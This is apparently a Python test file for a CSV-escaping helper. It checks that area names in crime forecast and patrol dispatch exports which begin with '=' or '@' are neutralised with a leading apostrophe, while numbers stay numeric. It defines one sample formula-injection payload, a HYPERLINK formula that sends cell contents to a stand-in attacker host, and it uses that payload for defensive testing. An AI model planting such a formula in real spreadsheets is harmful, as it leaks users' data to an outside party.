"""Every CSV people open is data, never a formula: an area name from an uploaded file that starts with "=" reaches the
forecast CSV and the patrol dispatch CSV with a leading apostrophe; numbers (negative longitudes too) stay numbers."""

from __future__ import annotations

import csv
import io

from lawful import csvsafe
from lawful.forecast import places

EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"open")'


def test_text_that_a_spreadsheet_would_run_is_quoted_and_numbers_are_not():
    assert [csvsafe.cell(v) for v in (EVIL, "+1", "-79.38", "@SUM(A1)", "\t=1", "Downtown", None, 3)] == \
        ["'" + EVIL, "+1", "-79.38", "'@SUM(A1)", "'\t=1", "Downtown", "", "3"]


def test_the_forecast_csv_keeps_a_formula_area_as_text():
    ring = [[-79.4, 43.6], [-79.39, 43.6], [-79.39, 43.61], [-79.4, 43.6]]
    text = places.csv_text([{"rank": 1, "cell_id": "200m:1:2", "neighbourhood": EVIL, "lon": -79.395, "lat": 43.605,
                             "score": 0.5, "sentence": "-high risk", "ring": ring}])
    row = dict(zip(*list(csv.reader(io.StringIO(text)))))
    assert row["neighbourhood"] == "'" + EVIL and row["sentence"] == "'-high risk"
    assert row["lon"] == "-79.395" and row["lat"] == "43.605"
